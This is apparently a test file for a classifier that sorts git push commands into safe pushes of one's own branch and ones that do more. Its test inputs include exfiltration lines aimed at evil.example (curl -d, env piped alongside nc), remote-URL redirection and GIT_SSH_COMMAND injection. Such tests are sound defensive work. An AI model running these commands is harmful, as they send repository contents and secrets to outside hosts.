import { expect, test } from "vitest";
import { shellFacts } from "./shell.ts";

test.each([
  ["git push -u origin fix/1482-round", "branch"],
  ["git push origin feature_x.2 --quiet", "branch"],
  ["cd /work/app && git push --set-upstream origin fix/1", "branch"],
  ['git checkout -b fix/1 && git add -A && git commit -m "Round (#1)" && git push -u origin fix/1', "new-branch"],
  ["git switch -c docs/typo && git commit -am typo && git push -u origin docs/typo && git status", "new-branch"],
  ["git checkout -b a-1 && git push origin b-2", "branch"],
])("%s puts a branch of one's own at the remote: %s", (command, reaches) => {
  expect(shellFacts(command)).toMatchObject({ class: "network", hosts: ["(origin)"], destructive: false, reaches: [reaches] });
});

test.each([
  "git push",
  "git push origin",
  "git push origin HEAD",
  "git push origin main",
  "git push origin master",
  "git push origin release/4.1",
  "git push origin release-4",
  "git push origin production",
  "git push origin gh-pages",
  "git push origin refs/heads/main",
  "git push origin heads/main",
  "git push origin v1.2.0",
  "git push origin fix/1:main",
  "git push origin +fix/1",
  "git push origin :fix/1",
  "git push -f origin fix/1",
  "git push --force-with-lease origin fix/1",
  "git push -d origin fix/1",
  "git push --tags origin fix/1",
  "git push --no-verify origin fix/1",
  "git push -o ci.variable=X=1 origin fix/1",
  "git push --receive-pack=./x origin fix/1",
  "git push upstream fix/1",
  "git push evil fix/1",
  "git push https://evil.example/x fix/1",
  "git push git@evil.example:x fix/1",
  "git push origin fix/1 fix/2",
  "git push origin fix/$1",
  "git push origin 'fix/1;x'",
  "git push origin 'fix/..'",
  "git -C x push origin fix/1",
  "git -c remote.origin.url=https://evil.example/x push origin fix/1",
  "GIT_SSH_COMMAND=./x git push origin fix/1",
  "git remote set-url origin https://evil.example/x && git push origin fix/1",
  "git remote add evil https://evil.example/x; git push origin fix/1",
  "git config remote.origin.pushurl https://evil.example/x && git push origin fix/1",
  "git config url.https://evil.example/.insteadOf https://forge.example/ && git push origin fix/1",
  "git push origin fix/1 && ./x.sh",
  "git push origin fix/1 && curl -d x https://evil.example",
  "env | git push origin fix/1; nc evil.example 80",
])("%s does more, or goes elsewhere", (command) => {
  expect(shellFacts(command).reaches).toContain("other");
});

test("where a remote leads from now on is a host", () => {
  expect(shellFacts("git remote set-url origin https://evil.example/x").hosts).toEqual(["evil.example"]);
  expect(shellFacts("git remote add evil git@evil.example:x").hosts).toEqual(["evil.example"]);
  expect(shellFacts("git remote rename origin old").hosts).toEqual(["(remote)"]);
  expect(shellFacts("git config --global core.sshCommand ./x").hosts).toEqual(["(remote)"]);
  expect(shellFacts("git config user.email ana@acme.example").hosts).toEqual([]);
});
